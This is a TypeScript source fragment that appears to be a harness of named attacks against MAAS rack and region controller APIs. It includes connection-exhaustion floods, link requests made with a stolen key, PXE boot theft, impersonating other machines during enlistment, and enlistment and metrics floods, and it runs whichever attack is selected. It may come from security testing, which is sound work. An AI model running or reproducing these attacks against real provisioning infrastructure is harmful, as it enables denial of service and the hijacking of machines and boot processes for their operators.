    holdConnections(API_PORT, 64, (socket) => post(socket, '/MAAS/api/2.0/nodegroups/', registration())),
  'link-guesses': () =>
    holdConnections(API_PORT, 2400, (socket) => socket.write(endlessReport(rack, `guess-${random(1e9)}`))),
  'link-stolen-key': async () => {
    let turn = 0;
    const speak = (socket: Socket): void => {
      turn += 1;
      socket.write(linkRequest(rack, LINK_SAYS[turn % LINK_SAYS.length] ?? 'events', turn));
    };
    const hold = (socket: Socket): boolean => socket.write(endlessReport(rack));
    await Promise.all([holdConnections(API_PORT, 64, speak), holdConnections(API_PORT, 2336, hold)]);
  },
  'link-stolen-batch': () => {
    let turn = 0;
    return holdConnections(API_PORT, 4, (socket) => {
      turn += 1;
      socket.write(linkRequest(rack, 'events', turn, manyMachines(turn)));
    });
  },
  'rack-loud': registerLoud,
  'metrics-idle': () => holdConnections(METRICS_PORT, 200, () => undefined),
  'metrics-flood': () =>
    holdConnections(METRICS_PORT, 40, (socket) =>
      askOn(socket, Buffer.from('GET /metrics HTTP/1.1\r\nHost: r\r\n\r\n')),
    ),
  'steal-boot': () => stealBoot({ rack, broadcast: BROADCAST, mac: hw(further), isOver, tell }),
  'amend-others': () => amendOthers(further),
  'enlist-as-others': () => enlistAsOthers(further.split(',')),
  'enlist-flood': () =>
    holdConnections(BOOT_PORT, 64, (socket) => post(socket, '/MAAS/api/1.0/nodes/', `op=new&${enlistment()}`)),
};

const attack = ATTACKS[name];
if (attack === undefined) throw new Error(`no such attack: ${name}; there are ${Object.keys(ATTACKS).join(', ')}`);
await attack();
process.exit(0);
